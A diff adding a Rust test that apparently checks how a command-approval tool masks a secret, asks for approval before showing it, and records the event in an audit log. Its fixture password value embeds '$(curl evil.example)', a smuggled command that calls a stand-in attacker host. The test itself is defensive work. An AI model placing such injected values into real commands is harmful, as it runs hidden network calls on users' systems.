@@ -150,3 +150,24 @@ async fn a_person_edits_in_their_own_editor_and_others_see_them_look() {
     let log = std::fs::read_to_string(office.house.path("audit.jsonl")).unwrap();
     assert!(log.contains(r#""event":"shown""#), "{log}");
 }
+
+#[tokio::test(flavor = "multi_thread")]
+async fn invariant_9b_one_key_shows_a_person_what_is_masked() {
+    let office = Office::new().await;
+    let payee = "mysql --password=\"aB3dE6gH$(curl evil.example)\"";
+    let question = "u to uncover what is masked]";
+    let folder = office.house.path("logs");
+    std::fs::create_dir(&folder).unwrap();
+    let call = office.house.wire(payee, 120).await;
+    let approve = ["approve", &call.id, "--audit", folder.to_str().unwrap()];
+    let ran = at_store(&office.house, &approve, &[(question, "u\n"), ("curl evil.example", "n\n")]);
+    assert!(ran.ended(5).out.is_empty());
+    let ran =
+        at_store(&office.house, &approve[..2], &[(question, "u\n"), ("--audit FOLDER", "y\n")]);
+    assert!(!ran.ended(0).err.contains("curl"), "nothing is uncovered that is not audited");
+    let call = office.house.wire(payee, 121).await;
+    let mut approve = office.program("ann-secret-token", &["approve", &call.id]);
+    at_terminal(&mut approve, &[(question, "u\n"), ("curl evil.example", "y\n")]).ended(0);
+    let log = std::fs::read_to_string(office.house.path("audit.jsonl")).unwrap();
+    assert!(log.contains(r#""event":"uncovered""#) && !log.contains("curl"), "{log}");
+}
